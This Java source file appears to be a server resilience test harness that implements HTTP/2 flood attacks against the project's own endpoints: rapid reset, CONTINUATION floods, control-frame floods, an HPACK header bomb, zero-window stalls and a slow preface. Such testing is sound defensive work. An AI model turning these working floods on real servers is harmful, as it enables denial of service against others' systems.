package io.tenantry.web.connection;

import static io.tenantry.web.connection.Http2Frame.END_HEADERS;
import static io.tenantry.web.connection.Http2Frame.END_STREAM;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/** Attacks by frames of HTTP/2. Most never read the replies of the server, which must not store them without limit. */
final class Http2Floods {
    private static final int BATCH = 500;
    private static final int STREAMS = 128;
    private static final int STREAM_AT = 5;
    private static final int INITIAL_WINDOW_SIZE = 4;
    private static final long SLOW_MILLISECONDS = 100;
    private static final byte[] NOTHING = {};
    private static final byte[] LIVE = HeaderBlock.request("GET", "/health/live");

    private Http2Floods() {}

    static void emptyContinuation(Flooding flooding, Wire wire) {
        begin(wire, NOTHING);
        wire.send(new Http2Frame(Http2Frame.HEADERS, END_STREAM, 1, LIVE).bytes());
        repeat(flooding, wire, new Http2Frame(Http2Frame.CONTINUATION, 0, 1, NOTHING));
    }

    static void longContinuation(Flooding flooding, Wire wire) {
        begin(wire, NOTHING);
        wire.send(new Http2Frame(Http2Frame.HEADERS, END_STREAM, 1, LIVE).bytes());
        byte[] more = new HeaderBlock().literal("x-long", "x".repeat(16_000)).bytes();
        byte[] frame = new Http2Frame(Http2Frame.CONTINUATION, 0, 1, more).bytes();
        while (!flooding.isOver()) {
            flooding.send(wire, frame, 1);
        }
    }

    /** Sends requests and cancels them at once; the server must not process more than it allows. */
    static void rapidReset(Flooding flooding, Wire wire) {
        begin(wire, NOTHING);
        flooding.discard(wire);
        byte[] ask = request(1, HeaderBlock.request("GET", "/user/organizations/", "x-cekura-api-key", flooding.key()));
        byte[] cancel = new Http2Frame(Http2Frame.RESET, 0, 1, Http2Frame.number(8)).bytes();
        ByteBuffer batch = ByteBuffer.allocate(BATCH * (ask.length + cancel.length));
        int stream = 1;
        while (!flooding.isOver()) {
            batch.clear();
            for (int i = 0; i < BATCH; i++) {
                batch.put(ask).putInt(batch.position() - ask.length + STREAM_AT, stream);
                batch.put(cancel).putInt(batch.position() - cancel.length + STREAM_AT, stream);
                stream += 2;
            }
            flooding.send(wire, batch.array(), BATCH);
        }
    }

    static void settings(Flooding flooding, Wire wire) {
        begin(wire, NOTHING);
        repeat(flooding, wire, new Http2Frame(Http2Frame.SETTINGS, 0, 0, NOTHING));
    }

    static void ping(Flooding flooding, Wire wire) {
        begin(wire, NOTHING);
        repeat(flooding, wire, new Http2Frame(Http2Frame.PING, 0, 0, new byte[8]));
    }

    static void priority(Flooding flooding, Wire wire) {
        begin(wire, NOTHING);
        repeat(flooding, wire, new Http2Frame(Http2Frame.PRIORITY, 0, 3, new byte[] {0, 0, 0, 1, 16}));
    }

    static void emptyData(Flooding flooding, Wire wire) {
        begin(wire, NOTHING);
        wire.send(new Http2Frame(Http2Frame.HEADERS, END_HEADERS, 1, write(flooding)).bytes());
        repeat(flooding, wire, new Http2Frame(Http2Frame.DATA, 0, 1, NOTHING));
    }

    static void windowUpdate(Flooding flooding, Wire wire) {
        begin(wire, NOTHING);
        repeat(flooding, wire, new Http2Frame(Http2Frame.WINDOW_UPDATE, 0, 0, Http2Frame.number(1)));
    }

    /** Sixteen thousand bytes that stand for fifty million. */
    static void indexedHeaders(Flooding flooding, Wire wire) {
        begin(wire, NOTHING);
        flooding.discard(wire);
        HeaderBlock bomb = new HeaderBlock()
                .literals(":method", "GET", ":scheme", "http", ":authority", "x", ":path", "/health/live")
                .added("x-bomb", "x".repeat(3_500));
        for (int i = 0; i < 12_000; i++) {
            bomb.indexed(HeaderBlock.LAST_ADDED);
        }
        byte[] block = bomb.bytes();
        for (int stream = 1; !flooding.isOver(); stream += 2) {
            flooding.send(wire, request(stream, block), 1);
        }
    }

    static void unfinishedStreams(Flooding flooding, Wire wire) throws IOException {
        begin(wire, NOTHING);
        for (int i = 0; i < STREAMS; i++) {
            int stream = 2 * i + 1;
            flooding.send(wire, new Http2Frame(Http2Frame.HEADERS, END_HEADERS, stream, write(flooding)).bytes(), 1);
            wire.send(new Http2Frame(Http2Frame.DATA, 0, stream, new byte[] {'{'}).bytes());
        }
        flooding.await(wire);
    }

    /** Requests long replies on every stream, and allows none of them to be sent. */
    static void zeroWindow(Flooding flooding, Wire wire) throws IOException {
        begin(wire, Http2Frame.setting(INITIAL_WINDOW_SIZE, 0));
        byte[] large = HeaderBlock.request("GET", "/user/openapi.yaml");
        for (int i = 0; i < STREAMS; i++) {
            flooding.send(wire, request(2 * i + 1, large), 1);
        }
        flooding.await(wire);
    }

    static void slowPreface(Flooding flooding, Wire wire) throws InterruptedException {
        for (byte next : Http2Wire.PREFACE.repeat(10).getBytes(StandardCharsets.US_ASCII)) {
            flooding.send(wire, new byte[] {next}, 1);
            if (flooding.isOver(SLOW_MILLISECONDS)) {
                return;
            }
        }
    }

    private static void begin(Wire wire, byte[] settings) {
        wire.send(Http2Wire.PREFACE).send(new Http2Frame(Http2Frame.SETTINGS, 0, 0, settings).bytes());
    }

    private static void repeat(Flooding flooding, Wire wire, Http2Frame frame) {
        byte[] batch = frame.bytes(BATCH);
        while (!flooding.isOver()) {
            flooding.send(wire, batch, BATCH);
        }
    }

    private static byte[] request(int stream, byte[] headerBlock) {
        return new Http2Frame(Http2Frame.HEADERS, END_HEADERS | END_STREAM, stream, headerBlock).bytes();
    }

    /** The head of a request with a body. */
    private static byte[] write(Flooding flooding) {
        return HeaderBlock.request(
                "POST", "/user/organizations/", "x-cekura-api-key", flooding.key(), "content-type", "application/json");
    }
}
